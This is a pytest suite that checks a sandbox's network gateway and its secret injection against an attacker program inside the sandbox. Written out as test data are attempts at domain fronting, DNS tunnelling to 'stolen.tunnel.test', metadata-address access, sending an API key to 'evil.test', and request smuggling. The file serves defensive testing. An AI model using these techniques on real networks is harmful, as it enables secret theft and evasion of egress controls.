"""Rules of a sandbox's network hold against a program inside, on the Sentry, which runs here without a machine."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.kata.oci_runtime import PATIENCE
from tests.sentry.small_root import make
from vmm import kvm_verdict

pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0, reason="network namespaces need root"),
    pytest.mark.skipif(kvm_verdict().usable, reason="with KVM, the Sentry is the kernel of a machine"),
    pytest.mark.skipif(shutil.which("nft", path="/usr/sbin:/sbin:/usr/bin") is None, reason="no nft"),
]
HERE = Path(__file__).parent
BEGIN = f"""
import json, os, signal, sys
sys.path.insert(0, {str(HERE)!r})
from outside import *
from pyvmm_sandbox import *
rootfs, place = sys.argv[1:]
where = {{"isolation": "sentry", "root": place + "/state", "timeout": None}}
outside = Outside(place)
attacker = open({str(HERE / "attacker.py")!r}).read()
def attack(box, *ways):
    done = box.run(["python3", "-c", attacker, *ways], timeout=300)
    assert done.ok, done
    return dict(line.split(" -> ") for line in done.stdout.splitlines())
def arrived():
    return {{tuple(each) for each in outside.arrived()["packets"]}}
open_one = "import socket; s = socket.create_connection(('good.test', 7000)); print(1, flush=True); s.recv(9)"
def raises(kind, call, *args, **options):
    try:
        call(*args, **options)
    except kind as error:
        return error
    raise AssertionError(f"no {{kind}}")
"""
Python = Callable[[str], str]


@pytest.fixture(scope="module")
def rootfs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make(tmp_path_factory.mktemp("rootfs"))


@pytest.fixture
def python(rootfs: Path, tmp_path: Path) -> Python:
    """Runs a program with the library on a host of its own; returns what it prints."""

    def run(code: str) -> str:
        done = subprocess.run(
            ["unshare", "--net", "--mount", sys.executable, "-c", BEGIN + code, str(rootfs), str(tmp_path)],
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=PATIENCE,
            env={**os.environ, "TMPDIR": str(tmp_path), "XDG_RUNTIME_DIR": str(tmp_path)},
        )
        assert done.returncode == 0, done.stdout + done.stderr
        assert [name for name in os.listdir(tmp_path) if name.startswith("pyvmm-")] == []
        return done.stdout

    return run


def test_an_attacker_reaches_what_is_allowed_and_nothing_else(python: Python) -> None:
    """All packets that leave the host are compared, so also those of ways that seem to fail inside."""
    code = """
rules = Network(
    allow=["good.test", "*.wild.test:80", f"{BY_ADDRESS}:7000", "10.9.0.0/24:80", f"[{BY_ADDRESS_6}]:7000",
           "six.test:80", "rebinds.test", *(name for name in NAMES if name.startswith("to-"))],
    deny=[DENIED])
may = {f"http good.test 80", "tls good.test 443 good.test", "stream good.test 7000", "half good.test 80 good.test",
       "cut good.test 80 good.test", "odd good.test 80 good.test",
       "http sub.wild.test 80", f"http {BY_ADDRESS} 7000", f"mapped {BY_ADDRESS} 7000", f"http {PRIVATE} 80",
       f"http {BY_ADDRESS_6} 7000",
       "http six.test 80", "http rebinds.test 80", f"dns {RESOLVER} 53 good.test"}
may_not = [
    "http good.test 80 evil.test", "half good.test 80 evil.test", "cut good.test 80 evil.test",  # fronting
    "odd good.test 80 evil.test", "tls good.test 443 evil.test",
    "http evil.test 80", "http wild.test 80", "http sub.wild.test 81", "http private.test 80", "http six.test 81",
    *(f"http {name} 80" for name in NAMES if name.startswith("to-")),
    f"http {SERVER} 80", f"http {SERVER} 80 good.test", f"tls {SERVER} 443 good.test", f"http {DENIED} 80",
    f"http {BY_ADDRESS} 7001", f"http {BY_ADDRESS} 80", f"udp {BY_ADDRESS} 7000",  # another port, another protocol
    f"mapped {BY_ADDRESS} 7001", f"mapped {OTHER} 80", f"mapped {DENIED} 80", f"mapped {PRIVATE} 81",
    f"http {BY_ADDRESS_6} 7001", f"http {SERVER_6} 80", f"udp {BY_ADDRESS_6} 7000",
    f"http {PRIVATE} 81", f"http {HOST} 80", f"http {HOST_6} 80", "http 169.254.169.254 80",
    "http 198.18.0.200 80", "http 198.19.255.255 80", "http 10.0.2.15 3128", "http 10.0.2.2 3128",
    "stream 10.0.2.15 5353",
    "http 169.254.1.1 3128", f"udp {OTHER} 443", f"ping {OTHER} 0", f"ping {BY_ADDRESS} 0",
    f"dns {RESOLVER} 53 stolen.tunnel.test", f"dns {OTHER} 53 stolen.tunnel.test", f"dns {RESOLVER} 5353 good.test",
    f"dns_stream {RESOLVER} 53 stolen.tunnel.test", f"dns_stream {OTHER} 5353 stolen.tunnel.test",
    f"dns 169.254.1.1 53 stolen.tunnel.test", f"dns_stream {OTHER} 853 stolen.tunnel.test",
]
with Sandbox(rootfs, network=rules, **where) as box:
    results = attack(box, *sorted(may), *may_not)
    assert {way for way, result in results.items() if result == "reached"} == may, results
    found = outside.arrived()
    assert {tuple(each) for each in found["packets"]} == {
        ("tcp", SERVER, 80), ("tcp", SERVER, 443), ("tcp", SERVER, 7000), ("tcp", BY_ADDRESS, 7000),
        ("tcp", PRIVATE, 80), ("tcp", SERVER_6, 80), ("tcp", BY_ADDRESS_6, 7000)}, found
    assert not [name for name in found["names"] if "tunnel" in name or "evil" in name], found
    assert {each["headers"]["Host"] for each in found["requests"]} <= {
        "good.test", "sub.wild.test", BY_ADDRESS, BY_ADDRESS_6, PRIVATE, "six.test", "rebinds.test"}
    reasons = {each.target: each.reason for each in box.network.refusals()}
    assert "93.184.0.66" in reasons["to-denied.test:80"], reasons
    assert box.network.traffic().connections >= len(may) - 1
"""
    assert python(code) == ""


def test_without_the_gateway_there_is_no_network(python: Python) -> None:
    """A connection that was open ends, too."""
    code = """
with Sandbox(rootfs, network=Network(), **where) as box:
    assert attack(box, "http good.test 80")["http good.test 80"] == "reached"
    with box.popen(["python3", "-c", open_one]) as command:
        assert next(iter(command)).text == "1\\n"
        arrived()
        os.kill(box.network.pid(), signal.SIGKILL)
        assert command.wait() in (0, 1)  # its connection has ended
    ways = ["http good.test 80", f"http {SERVER} 80", f"dns {RESOLVER} 53 good.test", f"udp {SERVER} 80"]
    assert not [way for way, result in attack(box, *ways).items() if result == "reached"]
    assert not {each for each in arrived() if each[2] != 7000}
    assert "has ended" in str(raises(SandboxError, box.network.get))
    assert box.run("echo hi").stdout == "hi\\n"
"""
    assert python(code) == ""


def test_rules_of_a_running_sandbox_are_replaced(python: Python) -> None:
    """By another process, too; a connection that the new ones do not allow ends."""
    code = """
ways = ["http good.test 80", "http other.test 80", f"http {OTHER} 7000"]
def reached(box):
    return [way for way, result in attack(box, *ways).items() if result == "reached"]
with Sandbox(rootfs, network=Network(deny=["other.test", OTHER]), **{**where, "detach": True, "name": "one"}) as box:
    assert reached(box) == ways[:1]
    with box.popen(["python3", "-c", open_one]) as command:
        assert next(iter(command)).text == "1\\n"
        same = Sandbox.connect("one", root=where["root"])
        same.network.update(Network(allow=["other.test:80"]))
        assert command.wait() in (0, 1)
    with box.popen(["python3", "-c", open_one.replace("good.test", "other.test").replace("7000", "80")]) as command:
        assert next(iter(command)).text == "1\\n"
        same.network.update(Network(allow=["other.test:80"], deny=[OTHER]))  # the address of its name
        assert command.wait() in (0, 1)
    same.network.update(Network(allow=["other.test:80"]))
    assert reached(box) == ways[1:2] and box.network.get() == Network(allow=["other.test:80"])
    same.network.update(Network(deny=["*"]))
    assert reached(box) == []
    same.network.update(Network(allow=["good.test"], default="allow"))
    assert reached(box) == ways
    raises(UsageError, box.fork), raises(UsageError, lambda: box.snapshot(place + "/saved"))
with Sandbox(rootfs, **where) as box:
    for call in (box.network.get, lambda: box.network.update(Network())):
        assert "Network(" in raises(UsageError, call).hint
raises(SandboxGone, box.network.get)
"""
    assert python(code) == ""


SECRETS = """
os.environ["SSL_CERT_FILE"] = place + "/authority.pem"
value, code = "s3cret-value-of-tests", '''
import base64, http.client, json, os, ssl, sys, urllib.request
key = os.environ["API_KEY"]
def ask(url, method="GET", body=None, **headers):
    try:
        headers = {name.replace("_", "-"): text for name, text in headers.items()}
        request = urllib.request.Request(url, method=method, headers=headers, data=body)
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status, answer.headers["X-Echo"], json.loads(answer.read() or b"null")
    except urllib.error.HTTPError as error:
        return error.code, None, error.read().decode()
    except OSError as error:
        return 0, None, repr(error)
'''
def run(box, more):
    done = box.run(["python3", "-c", code + more], timeout=300)
    assert done.ok, done
    return [json.loads(line) for line in done.stdout.splitlines()]
"""


def test_a_secret_is_sent_to_its_hosts_and_never_enters(python: Python) -> None:
    code = """
secret = Secret(value, hosts=["good.test", "*.wild.test", "other.test", "http://good.test:7000"], in_query=True)
assert value not in repr(secret)
rules = Network(allow=["good.test", "*.wild.test", "evil.test", "other.test"])
with Sandbox(rootfs, network=rules, secrets={"API_KEY": secret}, **where) as box:
    assert value not in box.run("env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null").stdout
    key = box.run("printf $API_KEY").stdout
    outside.arrived()
    answers = run(box, '''
basic = base64.b64encode(f"user:{key}".encode()).decode()
for found in (
    ask("https://good.test/one?k=" + key + "&x=1", Authorization="Bearer " + key),
    ask("https://good.test/two", "POST", b"body " + key.encode(), Authorization="Basic " + basic),
    ask("https://sub.wild.test/three", X_Key=key),
    ask("http://good.test:7000/four", X_Key=key),
    ask("https://evil.test/five", X_Key=key),        # allowed, and not the secret's
    ask("http://good.test/six", X_Key=key),          # not encrypted
    ask("https://other.test/seven", X_Key=key),      # the certificate is not the server's
    ask("https://good.test/eight", X_Key=key, Host="evil.test"),
):
    print(json.dumps(found))
end = http.client.HTTPSConnection("good.test")
for number in range(3):                              # on one connection
    end.request("POST", f"/again{number}", b"x" * 300000, {"X-Key": key})
    print(json.dumps([end.getresponse().read().count(b"x")]))
end.request("POST", "/chunks", iter([b"ab", b"cd"]), {"X-Key": key}, encode_chunked=True)
print(json.dumps(json.loads(end.getresponse().read())["body"]))
end.request("HEAD", "/head")
print(json.dumps(end.getresponse().read().decode()))
import socket
context = ssl.create_default_context()
with context.wrap_socket(socket.create_connection(("good.test", 443)), server_hostname="good.test") as end:
    words = ("GET /up HTTP/1.1", "Host: good.test", f"X-Key: {key}", "Connection: Upgrade", "Upgrade: test", "", "")
    end.sendall((chr(13) + chr(10)).join(words).encode())
    stream = end.makefile("rb")
    while stream.readline().strip():
        pass
    end.sendall(b"After")
    print(json.dumps(stream.read().decode()))
end = http.client.HTTPSConnection("good.test")       # whose server closes it between two requests
for path in ("/last", "/behind", "/next"):
    if path == "/behind":
        ask("https://good.test/behind")
    else:
        end.request("GET", path, None, {"X-Key": key})
        print(json.dumps(json.loads(end.getresponse().read())["path"]))
print(json.dumps(ask("https://good.test/trace", "TRACE", X_Key=key)))
end = http.client.HTTPSConnection("good.test")
end.putrequest("POST", "/lengths")                   # servers differ in where it ends
for name, text in (("X-Key", key), ("Content-Length", "50"), ("Transfer-Encoding", "chunked")):
    end.putheader(name, text)
end.endheaders(b"0" + 2 * bytes((13, 10)))
print(json.dumps(end.getresponse().status))
''')
    requests = {each["path"].partition("?")[0]: each for each in outside.arrived()["requests"]}
    assert requests["/one"]["path"] == f"/one?k={value}&x=1"
    assert requests["/one"]["headers"]["Authorization"] == f"Bearer {value}"
    assert requests["/two"]["headers"]["Authorization"].startswith("Basic ") and key in requests["/two"]["body"]
    import base64
    assert base64.b64decode(requests["/two"]["headers"]["Authorization"][6:]).decode() == f"user:{value}"
    for path in ("/three", "/four", "/again0", "/again2", "/chunks", "/up"):
        assert requests[path]["headers"]["X-Key"] == value, path
    for path in ("/five", "/six"):
        assert requests[path]["headers"]["X-Key"] == key, path
    assert not {"/seven", "/eight", "/trace", "/lengths"} & set(requests)
    assert answers[0][:2] == [200, f"Bearer {key}"]     # headers of answers have the placeholder again
    assert answers[6][0] == 502 and "certificate" in answers[6][2] and answers[7][0] == 421, answers
    assert answers[8:11] == [[300000]] * 3 and answers[11:14] == ["abcd", "", "firstaFTER"], answers
    assert answers[14:16] == ["/last", "/next"] and (answers[16][0], answers[17]) == (400, 400), answers
    found = os.popen("grep -rl --binary-files=text s3cret-value " + place + " 2>/dev/null").read()
    assert not found, found
    for name in ("cmdline", "environ"):
        assert value not in Path(f"/proc/{box.network.pid()}/{name}").read_text()
"""
    assert python(SECRETS + code) == ""


def test_what_does_not_fit_together_is_refused_before_anything_is_made(python: Python) -> None:
    code = """
secret = {"KEY": Secret("x", hosts=["good.test"])}
for options in (
    {"secrets": secret},
    {"network": "user", "secrets": secret},
    {"network": Network(allow=["other.test"]), "secrets": secret},
    {"network": Network(), "secrets": {"no name": Secret("x", hosts=["good.test"])}},
    {"network": Network(), "secrets": {"KEY": "x"}},
    {"network": Network(), "ports": ["8080:80"]},
    {"network": ["good.test"]},
):
    assert raises(UsageError, Sandbox, rootfs, **options, **where).hint, options
for value, hosts in (("", ["a.test"]), ("a\\nb", ["a.test"]), ("x", []), ("x", "a.test"), ("x", ["10.0.0.1"]), ("x", ["ftp://a"])):
    assert (value or "empty") not in str(raises(UsageError, Secret, value, hosts=hosts)).split()
assert not os.path.exists(where["root"])
raises(VmmError, Sandbox, place + "/none", network=Network(), **where)
"""
    assert python("from vmm import VmmError\n" + code) == ""


STEPS = {
    "the folder exists": "pyvmm_sandbox.egress.client._spawn",
    "the gateway runs": "pyvmm_sandbox.egress.client._exchange",
    "there is a network": "pyvmm_kata.Container.create",
    "there is a container": "pyvmm_sandbox.connecting.Connected.start",
    "it has a record": "pyvmm_sandbox.connecting._check_place",
    "the gateway ends with the container": "pyvmm_kata.Container.start",
    "the container runs": "pyvmm_sandbox.sandbox.Sandbox.run",
}
"""What there is when a function is called."""


@pytest.mark.parametrize("step", STEPS)
def test_nothing_is_left_of_a_caller_that_is_killed(python: Python, step: str) -> None:
    """Neither folders of the gateway and the sandbox, nor a process with their environment."""
    code = f"""
import functools, subprocess, time
killed = '''
import importlib, os, signal, sys
from pyvmm_sandbox import *
module, _, name = {STEPS[step]!r}.rpartition(".")
try:
    place = importlib.import_module(module)
except ModuleNotFoundError:
    module, _, kind = module.rpartition(".")
    place = getattr(importlib.import_module(module), kind)
setattr(place, name, lambda *_, **__: os.kill(os.getpid(), signal.SIGKILL))
with Sandbox(sys.argv[1], network=Network(), isolation="sentry", root=sys.argv[2]) as box:
    box.run("true")
'''
def processes():
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            words = Path(f"/proc/{{pid}}/environ").read_bytes() if pid != str(os.getpid()) else b""
        except OSError:
            continue
        if os.fsencode("TMPDIR=" + place) + bytes(1) in words:
            found.add(pid)
    return found
before = processes()
os.makedirs(place + "/state", exist_ok=True)
done = subprocess.run([sys.executable, "-c", killed, rootfs, place + "/state"])
assert done.returncode == -signal.SIGKILL, done
deadline = time.monotonic() + {PATIENCE}
left = lambda: [name for name in os.listdir(place) if name.startswith("pyvmm-")] + sorted(processes() - before)
while left() and time.monotonic() < deadline:
    time.sleep(0.05)
assert not left(), left()
assert not [name for name in os.listdir(place + "/state") if name.startswith("box-")]
"""
    python("from pathlib import Path\n" + code)
